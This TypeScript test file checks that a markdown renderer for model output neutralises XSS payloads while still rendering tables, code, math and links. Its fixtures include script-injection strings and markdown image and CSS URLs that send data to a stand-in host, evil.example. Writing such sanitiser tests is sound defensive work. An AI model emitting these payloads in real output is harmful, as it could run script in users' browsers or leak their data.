// Model output is untrusted: these payloads must come out inert.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

function assertInert(root: HTMLElement) {
  expect(root.querySelectorAll('script, iframe, object, embed, style, form, svg').length).toBe(0);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `${el.tagName} ${attr.name}`).toBe(false);
      expect(/^\s*(javascript|vbscript|data:text)/i.test(attr.value), `${el.tagName} ${attr.name}=${attr.value}`).toBe(false);
    }
  }
  for (const img of Array.from(root.querySelectorAll('img'))) {
    const src = img.getAttribute('src');
    expect(src === null || src.startsWith('data:image/') || src.startsWith('blob:'), `img src ${src}`).toBe(true);
  }
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![leak](https://evil.example/collect?q=secret)',
  '![leak][r]\n\n[r]: //evil.example/x.png',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<details open ontoggle=alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\htmlStyle{background:url(https://evil.example)}{x}$$',
  '```html\n<script>alert(1)</script>\n```',
  '<style>body{background:url(https://evil.example)}</style>',
];

describe('markdown sanitising', () => {
  for (const p of payloads) {
    it(`keeps ${JSON.stringify(p).slice(0, 60)} inert`, () => assertInert(dom(renderMarkdown(p))));
  }

  it('still renders what answers need', () => {
    const root = dom(renderMarkdown('# T\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```js\nconst a = 1;\n```\n\n$e^{i\\pi}$ [ok](https://example.com)'));
    expect(root.querySelector('h1')?.textContent).toBe('T');
    expect(root.querySelector('table td')?.textContent).toBe('1');
    expect(root.querySelector('.code .hljs-keyword')?.textContent).toBe('const');
    expect(root.querySelector('button.copy')).not.toBeNull();
    expect(root.querySelector('.katex')).not.toBeNull();
    const a = root.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('shows raw HTML as text', () => {
    const root = dom(renderMarkdown('<b>bold?</b>'));
    expect(root.querySelector('b')).toBeNull();
    expect(root.textContent).toContain('<b>bold?</b>');
  });

  it('keeps inline data images', () => {
    const root = dom(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)'));
    expect(root.querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/png/);
  });
});
